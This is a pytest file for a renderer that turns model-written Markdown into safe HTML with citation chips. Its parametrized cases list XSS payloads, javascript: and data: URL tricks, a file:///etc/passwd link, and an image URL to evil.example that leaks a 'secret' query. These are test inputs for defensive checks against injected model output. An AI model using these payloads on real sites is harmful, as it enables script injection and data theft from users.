"""Text from a model is drawn as HTML that cannot run, fetch or imitate, whatever a document told the model to write."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from entities.model_markdown import ATTRIBUTES, TAGS, CitationLink, render_citations, render_markdown

MSA = CitationLink(1, "MSA.pdf", "/w/acme/files/1#p", "p. 12", "/w/acme/citations/1", "supported")
LETTER = CitationLink(2, "Letter.docx", "/w/acme/files/2")
REPORT = CitationLink(3, "Report.pdf", "/w/acme/files/3", support="weak")
GONE = CitationLink(4, "Old.pdf")
LINKS = {1: MSA, 2: LETTER, 3: REPORT, 4: GONE, "a1b2c3d4": MSA}


class Reader(HTMLParser):
    """What a browser would find: every tag with its attributes, and the words between."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words += data

    def all(self, tag):
        return [attrs for name, attrs in self.tags if name == tag]


def read(text, links=None):
    return Reader(render_markdown(text, links))


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="/" onclick="alert(1)">x</a>',
        "<style>body{display:none}</style>",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input name=q></form>",
        "<svg onload=alert(1)>",
        '<div hx-get="/w/acme/records/" hx-trigger="load">',
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<!-- --><base href=//evil.example>",
        "a\n\n<details open ontoggle=alert(1)>\n\nb",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
)
def test_html_in_the_text_stays_words(hostile):
    page = read(hostile)
    assert {tag for tag, _ in page.tags} <= {"p"}
    assert all(not attrs for _, attrs in page.tags)


@pytest.mark.parametrize(
    "image",
    [
        "![chart](https://evil.example/p.png?q=secret)",
        "![chart](/w/acme/files/1)",
        "![chart][r]\n\n[r]: https://evil.example/p.png",
        "[![chart](https://evil.example/p.png)](/w/acme/)",
    ],
)
def test_images_are_not_fetched_and_leave_their_words(image):
    page = read(image)
    assert not page.all("img")
    assert "evil.example" not in str([attrs for _, attrs in page.tags])
    assert "chart" in page.words


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#115;cript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
        "/\\evil.example",
        "\\\\evil.example",
        "https:\\\\evil.example",
        "https:evil.example",
        "blob:https://evil.example/1",
    ],
)
def test_targets_that_run_or_mislead_are_not_links(target):
    assert read(f"[here]({target})").all("a") == []
    assert read(f"[here][r]\n\n[r]: {target}").all("a") == []
    assert read(f"<{target}>").all("a") == []


def test_links_to_this_site_stay_links():
    assert read("[the contract](/w/acme/records/1)").all("a") == [{"href": "/w/acme/records/1"}]


def test_foreign_links_say_their_host_and_carry_nothing_along():
    page = read("[our policy](https://evil.example/?q=x)")
    (link,) = page.all("a")
    assert link["rel"] == "noopener noreferrer nofollow"
    assert link["target"] == "_blank"
    assert "our policy (evil.example)" in page.words


def test_a_foreign_link_cannot_hide_its_host_behind_a_user_name():
    assert "(evil.example)" in read("[x](https://acme.example@evil.example/)").words or not read(
        "[x](https://acme.example@evil.example/)"
    ).all("a")


def test_ordinary_markdown_is_drawn_with_headings_below_the_page_s_own():
    page = read("# Terms\n\n- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx < y\n```")
    names = [tag for tag, _ in page.tags]
    assert "h3" in names
    assert "h1" not in names
    assert {"ul", "li", "strong", "table", "th", "td", "pre", "code"} <= set(names)


def test_a_marker_becomes_a_chip_with_the_source_s_name_and_place():
    page = read("The cap is one year [citation:1].", LINKS)
    (chip,) = page.all("a")
    assert chip["href"] == MSA.url
    assert chip["data-preview-url"] == MSA.preview_url
    assert chip["aria-label"] == "Source 1: MSA.pdf, p. 12"
    assert "MSA.pdf · p. 12" in page.words


def test_both_styles_of_marker_resolve_through_the_same_mapping():
    assert read("x [src:a1b2c3d4]", LINKS).all("a") == read("x [citation:1]", LINKS).all("a")


def test_adjacent_markers_are_one_chip_and_a_count():
    page = read("x [citation:1][citation:2] [citation:3] y [citation:2]", LINKS)
    assert len([1 for attrs in page.all("span") if "data-cites" in attrs]) == 2
    assert len(page.all("a")) == 4
    assert [attrs["aria-label"] for attrs in page.all("button")] == ["Show 2 more sources"]
    assert "+2" in page.words


def test_the_same_source_twice_in_a_run_is_one_chip():
    assert len(read("x [citation:1][citation:1]", LINKS).all("a")) == 1


def test_unknown_markers_vanish():
    page = read("x [citation:99] [src:ffffffff] y", LINKS)
    assert page.all("a") == []
    assert "citation" not in page.words
    assert "src" not in page.words


def test_without_a_mapping_no_marker_is_shown():
    assert "citation" not in read("x [citation:1]").words


def test_markers_in_code_are_left_alone():
    page = read("`[citation:1]`\n\n```\n[citation:2]\n```", LINKS)
    assert page.all("a") == []
    assert "[citation:1]" in page.words
    assert "[citation:2]" in page.words


def test_a_source_that_is_gone_is_named_but_not_linked():
    page = read("x [citation:4]", LINKS)
    assert page.all("a") == []
    assert any(attrs.get("aria-label") == "Source 4: Old.pdf, no longer available" for attrs in page.all("span"))


def test_weak_support_is_said_in_words():
    assert read("x [citation:3]", LINKS).all("a")[0]["aria-label"].endswith(", weak support")


def test_a_hostile_file_name_stays_text():
    nasty = CitationLink(5, '"><script>alert(1)</script>', "/w/acme/files/5", "<b>")
    page = Reader(render_citations([nasty]))
    assert {tag for tag, _ in page.tags} == {"a", "span", "strong"}
    assert set(page.all("a")[0]) == {"class", "href", "data-cite", "aria-label"}
    assert render_markdown("[citation:5]", {5: nasty}).count("<script") == 0


@pytest.mark.parametrize("url", ["javascript:alert(1)", "//evil.example", "https://evil.example", "/\\evil.example"])
def test_a_chip_never_leads_off_the_site(url):
    assert Reader(render_citations([CitationLink(6, "x.pdf", url, preview_url=url)])).all("a") == []


@given(st.text(alphabet=st.sampled_from("[]()<>!`*_#|:\\/\"'&; \n\tacitonjvsrpx012=h%"), max_size=80))
def test_whatever_is_written_only_known_tags_and_attributes_come_out(text):
    for tag, attrs in read(text, LINKS).tags:
        assert tag in TAGS
        assert set(attrs) <= ATTRIBUTES.get(tag, set()) | {"class"}
        href = attrs.get("href") or ""
        assert href[:1] in ("", "/", "#") or href.split(":")[0].lower() in ("http", "https", "mailto")
        assert not href.startswith("//")
